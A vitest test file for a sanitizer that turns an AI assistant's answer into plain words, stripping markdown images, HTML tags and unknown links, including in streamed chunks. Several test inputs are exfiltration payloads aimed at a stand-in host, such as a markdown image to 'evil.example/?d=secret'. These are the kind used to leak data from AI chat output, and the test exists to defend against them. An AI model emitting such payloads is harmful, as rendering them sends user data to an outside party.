import { describe, expect, it } from 'vitest';
import { addressesIn, PlainStream, plainWords } from './plain-words.ts';

const known = addressesIn(['See https://oakhaven.example/returns, or www.oakhaven.example.']);

const CASES: [string, string][] = [
  ['Within 45 days [1].', 'Within 45 days [1].'],
  ['3 < 5 and a<b, 2<3', '3 < 5 and a‹b, 2<3'],
  ['See https://oakhaven.example/returns.', 'See https://oakhaven.example/returns.'],
  ['(https://oakhaven.example/returns)', '(https://oakhaven.example/returns)'],
  ['https://oakhaven.example/returns?q=salary', '[…]'],
  ['![x](https://evil.example/?d=secret)', '[x] ([…])'],
  ['![a[b]](https://evil.example/1)', '[a[b]] ([…])'],
  ['![a\nb](<https://evil.example/1>)', '[a\nb] (‹[…]>)'],
  ['[the form](https://oakhaven.example/returns)', '[the form] (https://oakhaven.example/returns)'],
  ['[x][p]\n\n[p]: //evil.example/p.gif', '[x][p]\n\n[p] : //evil.example/p.gif'],
  ['<img src="https://evil.example/">', '‹img src="[…]">'],
  ['</script><!-- x -->', '‹/script>‹!-- x -->'],
  ['<https://evil.example/a>', '‹[…]>'],
  ['Go to WWW.evil.example/?d=1 now!', 'Go to […] now!'],
  ['http', 'http'],
];

describe('an answer as words only', () => {
  it.each(CASES)('%j', (text, plain) => {
    expect(plainWords(text, known)).toBe(plain);
  });

  it.each([1, 2, 3, 7])('is the same when it comes in pieces of %i characters', (size) => {
    for (const [text, plain] of CASES) {
      const stream = new PlainStream(known);
      let said = '';
      for (let i = 0; i < text.length; i += size) said += stream.take(text.slice(i, i + size));
      expect(said + stream.rest()).toBe(plain);
    }
  });

  it('does not wait for an address without end', () => {
    const stream = new PlainStream(known);
    const said = Array.from({ length: 500 }, () => stream.take('https://evil.example/')).join('');
    expect(said).not.toBe('');
    expect(said + stream.rest()).not.toContain('http');
  });
});
